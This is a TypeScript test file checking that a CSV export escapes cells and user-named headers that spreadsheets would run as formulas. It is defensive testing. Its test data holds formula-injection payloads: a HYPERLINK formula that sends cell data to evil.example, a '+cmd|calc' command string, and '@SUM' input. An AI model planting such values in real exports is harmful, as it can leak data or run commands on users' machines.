import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { ExportRow } from '#lib/services/results.ts';
import { csvText, exportResults } from './export.ts';

const SCHEME = '0191e0a0-0000-7000-8000-000000000001';

function row(value: Record<string, unknown>, title: string, text: string): ExportRow {
  return {
    id: '0191e0a0-0000-7000-8000-000000000002',
    job_id: '0191e0a0-0000-7000-8000-000000000003',
    record_id: '0191e0a0-0000-7000-8000-000000000004',
    scheme_id: SCHEME,
    datasource_id: '0191e0a0-0000-7000-8000-000000000005',
    value,
    justifications: {},
    provider: 'openai',
    model: 'm',
    created_at: '2026-01-01T00:00:00.000Z',
    record_title: title,
    text_content: text,
  };
}

async function csvOf(rows: ExportRow[], schemeName = 'Tone'): Promise<string[][]> {
  async function* source() {
    yield* rows;
  }
  const schemes = new Map([[SCHEME, { name: schemeName, fields: ['label', 'score', 'tags'] }]]);
  let out = '';
  for await (const chunk of exportResults(source(), 'csv', schemes, true)) out += chunk;
  return parse(out);
}

describe('CSV export against formula injection', () => {
  it('prefixes a quote to text a spreadsheet would run: = + - @ tab CR', async () => {
    const [, cells] = await csvOf([
      row(
        { label: '=HYPERLINK("https://evil.example/?"&A1,"click")', score: -3, tags: ['@SUM(A1:A9)', 'ok'] },
        '+cmd|calc',
        '-2+3',
      ),
    ]);
    expect(cells).toContain('\'=HYPERLINK("https://evil.example/?"&A1,"click")');
    expect(cells).toContain("'+cmd|calc");
    expect(cells).toContain("'-2+3");
    expect(cells).toContain("'@SUM(A1:A9); ok");
    // Numbers stay numbers: a negative score is data.
    expect(cells).toContain('-3');
  });

  it('escapes user-named headers too, and leaves ordinary text alone', async () => {
    const [header, cells] = await csvOf([row({ label: 'Economy' }, 'A title', 'Some text')], '=Tone');
    expect(header).toContain("'=Tone.label");
    expect(cells).toContain('Economy');
    expect(cells).toContain('A title');
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(csvText(`${start}x`)).toBe(`'${start}x`);
    expect(csvText('x=1')).toBe('x=1');
  });
});
